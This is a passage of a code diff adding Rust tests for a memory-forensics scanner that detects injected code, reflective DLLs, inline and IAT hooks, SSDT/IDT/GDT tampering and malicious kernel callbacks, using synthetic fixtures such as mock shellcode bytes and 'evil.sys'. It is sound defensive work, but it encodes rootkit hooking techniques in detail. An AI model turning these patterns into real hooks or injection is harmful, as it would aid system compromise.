+    let indirect = decode(&[0xFF, 0x25, 0x00, 0x00, 0x00, 0x00], 0x2000).unwrap();
+    assert_eq!((indirect.text().as_str(), indirect.memory), ("jmp qword ptr [rip]", Some(0x2006)));
+    let push = decode(&[0x68, 0x00, 0x10, 0x41, 0x00], 0).unwrap();
+    assert_eq!((push.text().as_str(), push.immediate), ("push 0x411000", Some(0x41_1000)));
+
+    // Unknown and truncated bytes decode one at a time
+    let unknown = disassemble(&[0x06, 0x27, 0xE8, 0x00], 0, 10);
+    assert_eq!(unknown.iter().map(|i| i.text()).collect::<Vec<_>>(), vec!["db 0x06", "db 0x27", "db 0xe8", "db 0x00"]);
+    assert!(unknown[0].is_unknown());
+    assert_eq!(decode(&[0x90], 0x10).unwrap().to_string(), format!("0x10  {:<24} nop", "90"));
+    assert!(decode(&[], 0).is_none());
+}
+
+#[cfg(feature = "disasm")]
+#[test]
+fn test_malfind_reports_private_rwx_regions() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::plugin::{entropy, has_pe_header};
+
+    let mut data = put_process_capture(true);
+    // Shellcode at the start of the injected page (0x410000 -> 0x1C000)
+    let shellcode = [0x55, 0x48, 0x89, 0xE5, 0x48, 0x83, 0xEC, 0x20, 0xE8, 0xF3, 0x0F, 0x00, 0x00, 0xC9, 0xC3];
+    data[0x1C000..0x1C040].fill(0);
+    data[0x1C000..0x1C000 + shellcode.len()].copy_from_slice(&shellcode);
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+
+    let findings = MalfindScanner.scan(&img, &ProgressBar::hidden());
+    assert_eq!(findings.len(), 1, "Only the private RWX region is reported");
+    let finding = &findings[0];
+    assert_eq!((finding.addr, finding.confidence, finding.details["rule"].as_str()), (0x1C000, 50, "injected_code"));
+    assert_eq!((finding.details["pid"].as_str(), finding.details["process"].as_str()), ("496", "victim.exe"));
+    assert_eq!((finding.details["start"].as_str(), finding.details["end"].as_str()), ("0x410000", "0x410fff"));
+    assert_eq!(finding.details["protection"], "PAGE_EXECUTE_READWRITE");
+    let disassembly: Vec<&str> = finding.details["disassembly"].lines().map(|l| l[32..].trim()).collect();
+    assert_eq!(&disassembly[..5], &["push rbp", "mov rbp, rsp", "sub rsp, 0x20", "call 0x411000", "leave"]);
+    assert!(finding.details["hexdump"].starts_with("0x410000  55 48 89 e5 48 83 ec 20 e8 f3 0f 00 00 c9 c3 00  UH..H.. ......."));
+    assert_eq!(finding.details["hexdump"].lines().count(), 4);
+
+    // A reflectively loaded DLL
+    data[0x1C000..0x1C100].fill(0);
+    data[0x1C000..0x1C002].copy_from_slice(b"MZ");
+    data[0x1C03C] = 0x80;
+    data[0x1C080..0x1C084].copy_from_slice(b"PE\0\0");
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    let findings = MalfindScanner.scan(&img, &ProgressBar::hidden());
+    assert_eq!((findings[0].confidence, findings[0].details["rule"].as_str()), (90, "injected_pe"));
+
+    // An encrypted payload fills the page with high-entropy bytes
+    let mut state = 0x2545_F491u32;
+    for byte in &mut data[0x1C000..0x1D000] {
+        state ^= state << 13;
+        state ^= state >> 17;
+        state ^= state << 5;
+        *byte = (state >> 24) as u8;
+    }
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    let findings = MalfindScanner.scan(&img, &ProgressBar::hidden());
+    assert_eq!((findings[0].confidence, findings[0].details["rule"].as_str()), (70, "injected_code"));
+    assert!(findings[0].details["entropy"].parse::<f64>()? > 7.5);
+
+    // A page of one repeated byte is mostly padding
+    data[0x1C000..0x1D000].fill(0);
+    data[0x1C000..0x1C040].fill(0x90);
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    assert_eq!(MalfindScanner.scan(&img, &ProgressBar::hidden())[0].confidence, 30);
+
+    // An empty page has nothing to show
+    data[0x1C000..0x1D000].fill(0);
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    assert!(MalfindScanner.scan(&img, &ProgressBar::hidden()).is_empty());
+    assert_eq!(entropy(&[0u8; 16]), 0.0);
+    assert_eq!(entropy(&(0..=255).collect::<Vec<u8>>()), 8.0);
+    assert!(!has_pe_header(b"MZ"));
+    Ok(())
+}
+
+#[cfg(feature = "disasm")]
+#[test]
+fn test_apihooks_flags_exports_jumping_out_of_their_module() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::disasm::disassemble;
+    use crate::pe::module_exports;
+    use crate::plugin::find_trampoline;
+
+    let mut data = put_process_capture(true);
+    let put_u32 = |data: &mut Vec<u8>, pa: usize, value: u32| data[pa..pa + 4].copy_from_slice(&value.to_le_bytes());
+    // PE32+ headers of victim.exe at 0x400000 with an export directory at RVA 0x200
+    let pe = 0x19000;
+    data[pe..pe + 0x400].fill(0);
+    data[pe..pe + 2].copy_from_slice(b"MZ");
+    data[pe + 0x3C] = 0x80;
+    data[pe + 0x80..pe + 0x84].copy_from_slice(b"PE\0\0");
+    data[pe + 0x98..pe + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    put_u32(&mut data, pe + 0x108, 0x200);
+    put_u32(&mut data, pe + 0x10C, 0x100);
+    let exports = pe + 0x200;
+    for (offset, value) in [(0x10, 1u32), (0x14, 8), (0x18, 6), (0x1C, 0x240), (0x20, 0x260), (0x24, 0x280)] {
+        put_u32(&mut data, exports + offset, value);
+    }
+    // Functions in the code page at 0x401000 (0x1A000); the seventh is forwarded
+    // (its RVA is in the export directory) and the eighth exported by ordinal
+    let functions: [(u32, &[u8]); 8] = [
+        (0x1100, &[0x48, 0x83, 0xEC, 0x28, 0x33, 0xC0, 0xC3]),
+        (0x1120, &[0xE9, 0xDB, 0xEE, 0x00, 0x00]),
+        (0x1140, &[0x68, 0x10, 0x00, 0x50, 0x00, 0xC3]),
+        (0x1160, &[0xFF, 0x25, 0x00, 0x00, 0x00, 0x00, 0x20, 0x00, 0x41, 0x00, 0x00, 0x00, 0x00, 0x00]),
+        (0x1180, &[0xFF, 0x25, 0x7A, 0x0D, 0x00, 0x00]),
+        (0x11A0, &[0x48, 0xB8, 0x40, 0x00, 0x41, 0x00, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xE0]),
+        (0x2F0, &[]),
+        (0x11C0, &[0xEB, 0x10]),
+    ];
+    for (index, (rva, code)) in functions.iter().enumerate() {
+        put_u32(&mut data, pe + 0x240 + index * 4, *rva);
+        let at = 0x1A000 + (*rva as usize).saturating_sub(0x1000);
+        if !code.is_empty() {
+            data[at..at + code.len()].copy_from_slice(code);
+        }
+    }
+    // The import thunk's IAT slot, inside victim.exe, points into evil.dll
+    put(&mut data, 0x1AF00, 0x50_0000);
+    let mut name_at = 0x300;
+    for (index, name) in ["Clean", "Hooked", "Pushed", "Indirect", "Thunk", "MovJmp"].iter().enumerate() {
+        put_u32(&mut data, pe + 0x260 + index * 4, name_at as u32);
+        data[pe + 0x280 + index * 2] = index as u8;
+        data[pe + name_at..pe + name_at + name.len()].copy_from_slice(name.as_bytes());
+        name_at += 0x10;
+    }
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let space = process.address_space(&img).ok_or("no DTB")?;
+    let listed: Vec<_> = module_exports(&space, 0x40_0000).into_iter().map(|e| (e.name, e.ordinal, e.address)).collect();
+    assert_eq!(listed, vec![
+        ("Clean".to_string(), 1, 0x40_1100), ("Hooked".to_string(), 2, 0x40_1120), ("Pushed".to_string(), 3, 0x40_1140),
+        ("Indirect".to_string(), 4, 0x40_1160), ("Thunk".to_string(), 5, 0x40_1180), ("MovJmp".to_string(), 6, 0x40_11A0),
+        ("#8".to_string(), 8, 0x40_11C0),
+    ]);
+
+    let findings = ApiHookScanner.scan(&img, &ProgressBar::hidden());
+    let hooks: Vec<_> = findings.iter().map(|f| (
+        f.details["function"].as_str(), f.details["hook_type"].as_str(), f.details["target"].as_str(),
+        f.details["target_module"].as_str(), f.confidence,
+    )).collect();
+    assert_eq!(hooks, vec![
+        ("Hooked", "jmp", "0x410000", "-", 90),
+        ("Pushed", "push/ret", "0x500010", "evil.dll", 70),
+        ("Indirect", "jmp [mem]", "0x410020", "-", 90),
+        ("MovJmp", "mov/jmp", "0x410040", "-", 90),
+    ]);
+    let hooked = &findings[0];
+    assert_eq!((hooked.addr, hooked.details["module"].as_str(), hooked.details["pid"].as_str()), (0x1A120, "victim.exe", "496"));
+    assert_eq!(hooked.details["function_address"], "0x401120");
+    assert!(hooked.details["disassembly"].contains("jmp 0x410000"));
+    assert_eq!(findings[1].desc, "victim.exe!Pushed in victim.exe (PID 496) hooked with push/ret to 0x500010 (evil.dll+0x10)");
+
+    // A jump within the module is not a hook
+    let module = 0x40_0000..0x40_2000;
+    assert!(find_trampoline(&disassemble(&[0xE9, 0x00, 0x01, 0x00, 0x00], 0x40_1000, 3), &module, |_| None).is_none());
+    Ok(())
+}
+
+#[test]
+fn test_rebuild_pe_restores_file_layout_and_import_names() -> Result<(), Box<dyn std::error::Error>> {
+    // A PE32+ image mapped at 0x140000000: .text at RVA 0x1000 and .idata,
+    // holding the import directory, at RVA 0x2000
+    let mut image = vec![0u8; 0x3000];
+    let put_u32 = |image: &mut Vec<u8>, at: usize, value: u32| image[at..at + 4].copy_from_slice(&value.to_le_bytes());
+    image[..2].copy_from_slice(b"MZ");
+    image[0x3C] = 0x80;
+    image[0x80..0x84].copy_from_slice(b"PE\0\0");
+    image[0x86] = 2;
+    image[0x94] = 0xF0;
+    image[0x98..0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    for (offset, value) in [(0xB8, 0x1000u32), (0xBC, 0x200), (0xD0, 0x3000), (0xD4, 0x400), (0x110, 0x2000), (0x114, 0x3C), (0x128, 0x5000), (0x12C, 0x800)] {
+        put_u32(&mut image, offset, value);
+    }
+    for (index, (name, rva, size)) in [(b".text", 0x1000u32, 0x100u32), (b".idat", 0x2000, 0x200)].into_iter().enumerate() {
+        let header = 0x188 + index * 40;
+        image[header..header + 5].copy_from_slice(name);
+        put_u32(&mut image, header + 8, size);
+        put_u32(&mut image, header + 12, rva);
+    }
+    image[0x1000..0x1100].fill(0x90);
+    // KERNEL32.dll!Sleep keeps its name table; USER32.dll's was discarded
+    for (offset, value) in [(0x2000, 0x2080u32), (0x200C, 0x2100), (0x2010, 0x2040), (0x2020, 0x2110), (0x2024, 0x2060), (0x2080, 0x2120)] {
+        put_u32(&mut image, offset, value);
+    }
+    image[0x2100..0x210C].copy_from_slice(b"KERNEL32.dll");
+    image[0x2110..0x211A].copy_from_slice(b"USER32.dll");
+    image[0x2122..0x2127].copy_from_slice(b"Sleep");
+    put(&mut image, 0x2040, 0x7FF0_0000_1000);
+    put(&mut image, 0x2060, 0x7FF1_0000_2000);
+    put(&mut image, 0x2068, 0x7FF1_0000_3000);
+    let mut exports = ExportIndex::default();
+    exports.insert("user32.dll", &[Export { name: "MessageBoxW".to_string(), ordinal: 1, address: 0x7FF1_0000_2000 }]);
+
+    let file = rebuild_pe(&image, 0x1_4000_0000, &exports)?;
+    let u32_at = |at: usize| u32::from_le_bytes(file[at..at + 4].try_into().unwrap()) as usize;
+    let u64_at = |at: usize| u64::from_le_bytes(file[at..at + 8].try_into().unwrap()) as usize;
+    assert_eq!(u64_at(0xB0), 0x1_4000_0000);
+    assert_eq!((file[0x86], u32_at(0xD0)), (3, 0x4000), "An import section was added");
+    assert_eq!((u32_at(0x128), u32_at(0x12C)), (0, 0), "The certificate is not in memory");
+    // Sections follow the headers at the file alignment
+    let sections: Vec<_> = (0..3).map(|i| (&file[0x188 + i * 40..0x188 + i * 40 + 7], u32_at(0x188 + i * 40 + 16), u32_at(0x188 + i * 40 + 20))).collect();
+    assert_eq!(sections, vec![(&b".text\0\0"[..], 0x200, 0x400), (&b".idat\0\0"[..], 0x200, 0x600), (&b".rmfimp"[..], 0x200, 0x800)]);
+    assert_eq!((file.len(), file[0x400]), (0xA00, 0x90));
+
+    // The import directory is the new section; each IAT slot names its function again
+    assert_eq!((u32_at(0x110), u32_at(0x114)), (0x3000, 0x3C));
+    let at = |rva: usize| rva - 0x3000 + 0x800;
+    let text = |rva: usize| {
+        let bytes = &file[at(rva)..];
+        String::from_utf8_lossy(&bytes[..bytes.iter().position(|&b| b == 0).unwrap()]).into_owned()
+    };
+    let descriptors: Vec<_> = (0..2).map(|i| (text(u32_at(at(0x3000 + i * 20 + 12))), u32_at(at(0x3000 + i * 20 + 16)))).collect();
+    assert_eq!(descriptors, vec![("KERNEL32.dll".to_string(), 0x2040), ("user32.dll".to_string(), 0x2060)]);
+    let iat = |rva: usize| text(u64_at(rva - 0x2000 + 0x600) + 2);
+    assert_eq!((iat(0x2040), iat(0x2060), iat(0x2068)), ("Sleep".to_string(), "MessageBoxW".to_string(), "unresolved_7ff100003000".to_string()));
+    assert_eq!(u64_at(0x670), 0, "The IAT stays terminated");
+    Ok(())
+}
+
+#[test]
+fn test_pe_imports_and_iat_hooks() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(true);
+    let put_u32 = |data: &mut Vec<u8>, pa: usize, value: u32| data[pa..pa + 4].copy_from_slice(&value.to_le_bytes());
+    // victim.exe at 0x400000 names itself in its export directory at RVA
+    // 0x200 and imports from KERNEL32.dll through the descriptor at RVA 0x400
+    let pe = 0x19000;
+    data[pe..pe + 0x600].fill(0);
+    data[pe..pe + 2].copy_from_slice(b"MZ");
+    data[pe + 0x3C] = 0x80;
+    data[pe + 0x80..pe + 0x84].copy_from_slice(b"PE\0\0");
+    data[pe + 0x98..pe + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    put_u32(&mut data, pe + 0x108, 0x200);
+    put_u32(&mut data, pe + 0x10C, 0x40);
+    put_u32(&mut data, pe + 0x110, 0x400);
+    put_u32(&mut data, pe + 0x114, 0x28);
+    put_u32(&mut data, pe + 0x20C, 0x240);
+    data[pe + 0x240..pe + 0x24A].copy_from_slice(b"victim.exe");
+    put_u32(&mut data, pe + 0x400, 0x440);
+    put_u32(&mut data, pe + 0x40C, 0x480);
+    put_u32(&mut data, pe + 0x410, 0x1E00);
+    data[pe + 0x480..pe + 0x48C].copy_from_slice(b"KERNEL32.dll");
+    // Name table: CreateFileW, ordinal 16 and ReadFile
+    put(&mut data, pe + 0x440, 0x4A0);
+    put(&mut data, pe + 0x448, 1 << 63 | 16);
+    put(&mut data, pe + 0x450, 0x4C0);
+    data[pe + 0x4A2..pe + 0x4AD].copy_from_slice(b"CreateFileW");
+    data[pe + 0x4C2..pe + 0x4CA].copy_from_slice(b"ReadFile");
+    // The loader's IAT at 0x401E00; CreateFileW was patched to the injected page
+    put(&mut data, 0x1AE00, 0x41_0000);
+    put(&mut data, 0x1AE08, 0x40_1100);
+    put(&mut data, 0x1AE10, 0x40_1120);
+    // The loader entry has lost its name
+    data[0x1B248..0x1B24A].fill(0);
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let space = process.address_space(&img).ok_or("no DTB")?;
+    assert_eq!(module_name(&space, 0x40_0000).as_deref(), Some("victim.exe"));
+    assert_eq!(process_dlls(&img, &finder, &process).dlls[0].name, "victim.exe");
+    let imports: Vec<_> = module_imports(&space, 0x40_0000).into_iter().map(|i| (i.module, i.name, i.slot, i.address)).collect();
+    assert_eq!(imports, vec![
+        ("KERNEL32.dll".to_string(), "CreateFileW".to_string(), 0x40_1E00, Some(0x41_0000)),
+        ("KERNEL32.dll".to_string(), "#16".to_string(), 0x40_1E08, Some(0x40_1100)),
+        ("KERNEL32.dll".to_string(), "ReadFile".to_string(), 0x40_1E10, Some(0x40_1120)),
+    ]);
+
+    let findings = ApiHookScanner.scan(&img, &ProgressBar::hidden());
+    let iat: Vec<_> = findings.iter().filter(|f| f.details["rule"] == "iat_hook").collect();
+    assert_eq!(iat.len(), 1);
+    assert_eq!((iat[0].addr, iat[0].details["function"].as_str(), iat[0].details["target"].as_str()), (0x1AE00, "KERNEL32.dll!CreateFileW", "0x410000"));
+    assert_eq!(iat[0].desc, "victim.exe in victim.exe (PID 496) imports KERNEL32.dll!CreateFileW through an IAT slot patched to 0x410000 (no module)");
+    Ok(())
+}
+
+#[test]
+fn test_ssdt_scan_flags_dispatch_table_hooks() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+    // ntoskrnl.exe spans the first eight pages on PsLoadedModuleList (KERNEL_VA + 0x1400)
+    let (list, entry, name) = (0x6400, 0x6500, 0x6600);
+    put(&mut data, list, kva(entry));
+    put(&mut data, entry, kva(list));
+    put(&mut data, entry + 0x30, KERNEL_VA);
+    data[entry + 0x40..entry + 0x44].copy_from_slice(&0x8000u32.to_le_bytes());
+    let wide: Vec<u8> = "ntoskrnl.exe".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[name..name + wide.len()].copy_from_slice(&wide);
+    data[entry + 0x58..entry + 0x5A].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+    put(&mut data, entry + 0x60, kva(name));
+
+    // KiSystemServiceRepeat: lea r10, [KeServiceDescriptorTable]; lea r11, [...Shadow]
+    let (code, ssdt, shadow) = (0x5100, 0x9000, 0x9040);
+    data[code..code + 3].copy_from_slice(&[0x4C, 0x8D, 0x15]);
+    data[code + 3..code + 7].copy_from_slice(&((ssdt - code - 7) as u32).to_le_bytes());
+    data[code + 7..code + 10].copy_from_slice(&[0x4C, 0x8D, 0x1D]);
+    data[code + 10..code + 14].copy_from_slice(&((shadow - code - 14) as u32).to_le_bytes());
+    // Four services, the third redirected past the end of ntoskrnl; win32k's
+    // half of the shadow table is not mapped
+    let base = 0x9100;
+    put(&mut data, ssdt, kva(base));
+    data[ssdt + 0x10] = 4;
+    for (index, routine) in [kva(0x5200), kva(0x5300), KERNEL_VA + 0xC000, kva(0x5400)].into_iter().enumerate() {
+        let offset = ((routine.wrapping_sub(kva(base)) as i64) << 4 | 2) as u32;
+        data[base + index * 4..base + index * 4 + 4].copy_from_slice(&offset.to_le_bytes());
+    }
+
+    // KiProcessorBlock (KDBG + 0x218) -> KPRCB embedded at KPCR + 0x180
+    let (kpb, kpcr, gdt, idt) = (0x9200, 0xA000, 0xA800, 0xB000);
+    put(&mut data, 0x7000 + 0x218, kva(kpb));
+    put(&mut data, kpb, kva(kpcr) + 0x180);
+    put(&mut data, kpcr, kva(gdt));
+    put(&mut data, kpcr + 0x18, kva(kpcr));
+    put(&mut data, kpcr + 0x20, kva(kpcr) + 0x180);
+    put(&mut data, kpcr + 0x38, kva(idt));
+    // Interrupt gates: #DE in the kernel, #PF redirected, vector 2 not present
+    for (vector, handler, attributes) in [(0u64, kva(0x5500), 0x8E00u64), (2, kva(0x5600), 0x0E00), (0xE, KERNEL_VA + 0xD000, 0x8E00)] {
+        let at = idt + vector as usize * 16;
+        put(&mut data, at, handler & 0xFFFF | 0x10 << 16 | attributes << 32 | (handler >> 16 & 0xFFFF) << 48);
+        put(&mut data, at + 8, handler >> 32);
+    }
+    // A code segment, the TSS (two slots) and a ring 3 call gate to unowned code
+    let gate = KERNEL_VA + 0xE000;
+    put(&mut data, gdt + 0x10, 0x0020_9B00_0000_0000);
+    put(&mut data, gdt + 0x40, 0x0000_8B00_0000_0067);
+    put(&mut data, gdt + 0x48, 0x0000_EC00_0000_0000);
+    put(&mut data, gdt + 0x50, gate & 0xFFFF | 0x10 << 16 | 0xEC << 40 | (gate >> 16 & 0xFFFF) << 48);
+    put(&mut data, gdt + 0x58, gate >> 32);
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    assert_eq!(os.ki_processor_block, Some(kva(kpb)));
+    assert_eq!(find_service_descriptors(&img, KERNEL_VA, 0x8000), Some((kva(ssdt), kva(shadow))));
+
+    let findings = SsdtScanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (f.addr, f.details["rule"].as_str(), f.confidence)).collect();
+    assert_eq!(summary, vec![
+        (0x9000, "service_table", 90),
+        (0x9108, "ssdt_hook", 90),
+        (0xA000, "processor_tables", 85),
+        (0xB0E0, "idt_hook", 85),
+        (0xA850, "gdt_call_gate", 90),
+    ]);
+    assert_eq!(findings[0].desc, "SSDT at 0xfffff80000004100 with 4 services, 1 outside ntoskrnl");
+    assert_eq!(findings[1].desc, "SSDT entry 0x2 points to 0xfffff8000000c000 in unknown");
+    assert_eq!((findings[2].details["vectors"].as_str(), findings[2].details["hooked"].as_str()), ("2", "1"));
+    assert_eq!(findings[3].details["handler"], "0xfffff8000000d000");
+    assert_eq!((findings[4].details["selector"].as_str(), findings[4].details["target"].as_str()), ("0x50", "0xfffff8000000e000"));
+    Ok(())
+}
+
+#[cfg(feature = "disasm")]
+fn put_u32(data: &mut [u8], offset: usize, value: u32) {
+    data[offset..offset + 4].copy_from_slice(&value.to_le_bytes());
+}
+
+// Write `text` as UTF-16 at `offset`, returning its length in bytes
+#[cfg(feature = "disasm")]
+fn put_wide(data: &mut [u8], offset: usize, text: &str) -> u16 {
+    let wide: Vec<u8> = text.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[offset..offset + wide.len()].copy_from_slice(&wide);
+    wide.len() as u16
+}
+
+// Link `modules` (base, size, name) on PsLoadedModuleList at KERNEL_VA + 0x1400,
+// with entries from physical 0x6480
+#[cfg(feature = "disasm")]
+fn put_loaded_modules(data: &mut [u8], modules: &[(u64, u32, &str)]) {
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    let mut link = 0x6400;
+    for (index, &(base, size, name)) in modules.iter().enumerate() {
+        let entry = 0x6480 + index * 0x80;
+        put(data, link, kva(entry));
+        put(data, entry + 0x30, base);
+        put_u32(data, entry + 0x40, size);
+        let length = put_wide(data, entry + 0x68, name);
+        data[entry + 0x58..entry + 0x5A].copy_from_slice(&length.to_le_bytes());
+        put(data, entry + 0x60, kva(entry + 0x68));
+        link = entry;
+    }
+    put(data, link, kva(0x6400));
+}
+
+// A PE32+ header at `offset` whose security directory is `signature` bytes
+#[cfg(feature = "disasm")]
+fn put_pe64_header(data: &mut [u8], offset: usize, signature: u32) {
+    data[offset..offset + 2].copy_from_slice(b"MZ");
+    data[offset + 0x3C] = 0x80;
+    data[offset + 0x80..offset + 0x84].copy_from_slice(b"PE\0\0");
+    data[offset + 0x98..offset + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    put_u32(data, offset + 0x12C, signature);
+}
+
+// Export `exports` (name, RVA) from the image at physical 0x5000 (KERNEL_VA),
+// with the export directory at RVA 0x300
+#[cfg(feature = "disasm")]
+fn put_kernel_exports(data: &mut [u8], exports: &[(&str, u32)]) {
+    let rva = |rva: usize| 0x5000 + rva;
+    put_u32(data, rva(0x108), 0x300);
+    put_u32(data, rva(0x10C), 0x100);
+    let count = exports.len() as u32;
+    for (offset, value) in [(0x10, 1u32), (0x14, count), (0x18, count), (0x1C, 0x340), (0x20, 0x360), (0x24, 0x380)] {
+        put_u32(data, rva(0x300 + offset), value);
+    }
+    for (index, (name, function)) in exports.iter().enumerate() {
+        put_u32(data, rva(0x340 + index * 4), *function);
+        put_u32(data, rva(0x360 + index * 4), 0x3A0 + index as u32 * 0x20);
+        data[rva(0x380 + index * 2)] = index as u8;
+        data[rva(0x3A0 + index * 0x20)..rva(0x3A0 + index * 0x20) + name.len()].copy_from_slice(name.as_bytes());
+    }
+}
+
+#[cfg(feature = "disasm")]
+#[test]
+fn test_callbacks_found_through_registration_routines() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::plugin::CallbackScanner;
+
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    let rva = |rva: usize| 0x5000 + rva;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+    // ntoskrnl.exe (signed) and evil.sys (not)
+    let evil = KERNEL_VA + 0xA000;
+    put_loaded_modules(&mut data, &[(KERNEL_VA, 0x8000, "ntoskrnl.exe"), (evil, 0x1000, "evil.sys")]);
+    put_pe64_header(&mut data, 0x5000, 0x2000);
+    put_pe64_header(&mut data, 0xF000, 0);
+    put_kernel_exports(&mut data, &[("PsSetCreateProcessNotifyRoutine", 0x1000), ("PsSetLoadImageNotifyRoutine", 0x1100), ("CmUnRegisterCallback", 0x1200), ("PsProcessType", 0x2000)]);
+    // lea with a RIP-relative operand to `target`, written at `at`
+    let lea = |data: &mut [u8], at: usize, prefix: [u8; 3], target: usize| {
+        data[rva(at)..rva(at) + 3].copy_from_slice(&prefix);
+        put_u32(data, rva(at + 3), (target as u32).wrapping_sub(at as u32 + 7));
+    };
+    // PsSetCreateProcessNotifyRoutine jumps to the internal routine, which
+    // loads a string before the array
+    data[rva(0x1000)] = 0xE9;
+    put_u32(&mut data, rva(0x1001), 0x80 - 5);
+    lea(&mut data, 0x1080, [0x48, 0x8D, 0x0D], 0x2100);
+    lea(&mut data, 0x1087, [0x4C, 0x8D, 0x2D], 0x3000);
+    data[rva(0x108E)] = 0xC3;
+    data[rva(0x2100)..rva(0x2108)].copy_from_slice(b"Psp\0\0\0\0\0");
+    lea(&mut data, 0x1100, [0x48, 0x8D, 0x0D], 0x3900);
+    lea(&mut data, 0x1200, [0x48, 0x8D, 0x0D], 0x3300);
+
+    // Process notify array: one routine in ntoskrnl, one in pool memory;
+    // image load array: one routine of evil.sys
+    for (slot, block, function) in [(0x3000, 0x3200, KERNEL_VA + 0x1500), (0x3008, 0x3220, KERNEL_VA + 0xC000), (0x3900, 0x3240, evil + 0x80)] {
+        put(&mut data, rva(slot), kva(rva(block)) | 0xF);
+        put(&mut data, rva(block + 8), function);
+    }
+    // CallbackListHead with one registry callback of evil.sys at altitude 385200
+    let (head, entry) = (rva(0x3300), rva(0x3400));
+    put(&mut data, head, kva(entry));
+    put(&mut data, head + 8, kva(entry));
+    put(&mut data, entry, kva(head));
+    put(&mut data, entry + 8, kva(head));
+    put(&mut data, entry + 0x28, evil + 0x100);
+    let length = put_wide(&mut data, rva(0x3480), "385200");
+    data[entry + 0x30..entry + 0x32].copy_from_slice(&length.to_le_bytes());
+    put(&mut data, entry + 0x38, kva(rva(0x3480)));
+    // PsProcessType -> OBJECT_TYPE whose CallbackList holds a pre-operation
+    // callback for handle creation in pool memory
+    let (object_type, entry) = (rva(0x3500), rva(0x3600));
+    put(&mut data, rva(0x2000), kva(object_type));
+    put(&mut data, object_type + 0xC8, kva(entry));
+    put(&mut data, object_type + 0xD0, kva(entry));
+    put(&mut data, entry, kva(object_type + 0xC8));
+    put(&mut data, entry + 8, kva(object_type + 0xC8));
+    data[entry + 0x10] = 1;
+    data[entry + 0x14] = 1;
+    put(&mut data, entry + 0x28, KERNEL_VA + 0xC100);
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let findings = CallbackScanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (
+        f.details["api"].as_str(), f.details["function"].as_str(), f.details["module"].as_str(), f.details["rule"].as_str(), f.confidence,
+    )).collect();
+    assert_eq!(summary, vec![
+        ("PsSetCreateProcessNotifyRoutine", "0xfffff80000001500", "ntoskrnl.exe", "kernel_callback", 40),
+        ("PsSetCreateProcessNotifyRoutine", "0xfffff8000000c000", "unknown", "callback_in_unbacked_memory", 90),
+        ("PsSetLoadImageNotifyRoutine", "0xfffff8000000a080", "evil.sys", "callback_unsigned_module", 60),
+        ("CmRegisterCallback", "0xfffff8000000a100", "evil.sys", "callback_unsigned_module", 60),
+        ("ObRegisterCallbacks", "0xfffff8000000c100", "unknown", "callback_in_unbacked_memory", 90),
+    ]);
+    assert_eq!((findings[1].addr, findings[0].details["signed"].as_str()), (rva(0x3008) as u64, "embedded"));
+    assert_eq!(findings[3].details["altitude"], "385200");
+    assert_eq!(findings[4].desc, "Process handle pre (create) callback 0xfffff8000000c100 in unknown (ObRegisterCallbacks)");
+    Ok(())
+}
+
+#[cfg(feature = "disasm")]
+#[test]
+fn test_timers_decode_timer_dpcs_and_walk_dpc_queues() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::plugin::TimerScanner;
+
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+    let driver = KERNEL_VA + 0xE000;
+    put_loaded_modules(&mut data, &[(KERNEL_VA, 0x4000, "ntoskrnl.exe"), (driver, 0x1000, "beep.sys")]);
+    put_pe64_header(&mut data, 0x5000, 0);
+    put_kernel_exports(&mut data, &[("KeSetTimer", 0x1000)]);
+    // KeSetTimer reads KiWaitNever, KiWaitAlways and an unrelated variable
+    let (never, always) = (0x1234_5678_9ABC_DE05u64, 0x0FED_CBA9_8765_4321u64);
